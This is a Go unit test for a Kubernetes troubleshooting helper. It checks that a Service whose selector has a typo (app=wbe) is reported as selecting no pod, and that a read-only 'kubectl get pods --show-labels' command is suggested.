func TestAServiceOfAReadyComponentThatSelectsNoPodIsNoted(t *testing.T) {
	const owned = "shop.example.com/owner-id=x"
	facts := shop("Ready", "all is well")
	facts.Status.OwnerID = "x"
	facts.Status.Inventory.Items = v1alpha1.InventoryItems{{Version: "v1", Kind: "Service", Namespace: "market", Name: "web"}}
	facts.with(list("Service", "market", owned, ""), `{metadata: {name: web}, spec: {selector: {app: web}}}`, `{metadata: {name: typo}, spec: {selector: {app: wbe}}}`,
		`{metadata: {name: late}, spec: {selector: {app: late}}}`, `{metadata: {name: manual}}`).
		with(list("EndpointSlice", "market", owned, ""), `{metadata: {labels: {kubernetes.io/service-name: web}}, endpoints: [{}]}`, `{metadata: {labels: {kubernetes.io/service-name: typo}}}`).
		with(list("Pod", "market", "app=wbe", "")).with(list("Pod", "market", "app=late", ""), podOf+"{}")
	chain, open := explain(facts, now)
	check.Equal(t, []string{"Service market/typo selects no pod: its selector is app=wbe"}, chain.Notices)
	check.Same(t, "kubectl -n market get pods --show-labels", chain.Command)
	if !chain.Ready || len(open) > 0 {
		t.Errorf("ready %v, open %v", chain.Ready, open)
	}
}
